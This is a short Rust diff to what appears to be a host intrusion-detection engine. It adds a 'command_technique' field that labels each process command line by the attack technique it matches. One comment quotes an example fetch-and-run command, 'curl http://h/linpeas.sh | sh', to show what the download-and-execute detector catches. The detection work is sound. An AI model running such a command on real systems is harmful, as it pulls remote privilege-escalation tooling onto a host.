@@ -359,6 +359,9 @@ pub struct Context {
     /// `curl http://h/linpeas.sh | sh`). Empty unless
     /// `cmd_download_exec` fires.
     pub fetched: String,
+    /// The technique the process's command line names by its arguments
+    /// (`lexicon::command_technique`), for naming; empty when none.
+    pub command_technique: &'static str,
 }
 
 /// The features of one event.
@@ -623,6 +626,11 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
     placement(&mut v, ev, &who);
     let ancestors = ancestry(&mut v, h, &who, &mut ctx);
     let cmd = command_line(&mut v, ev, &who);
+    ctx.command_technique = match (&ev.detail, &who.known) {
+        (Some(Detail::Exec(_)), _) => lexicon::command_technique(&cmd.line),
+        (_, Some(p)) => p.command_technique,
+        _ => "",
+    };
     if v.0[Feature::from(CmdDerived::DownloadExec).slot()] != 0.0 {
         ctx.fetched = fetched_program(&cmd.line);
     }
@@ -656,6 +664,7 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
                 families: who.fam,
                 indicators: cmd.indicators,
                 cmd_shape: cmd.shape,
+                command_technique: ctx.command_technique,
                 connected: false,
             },
         );
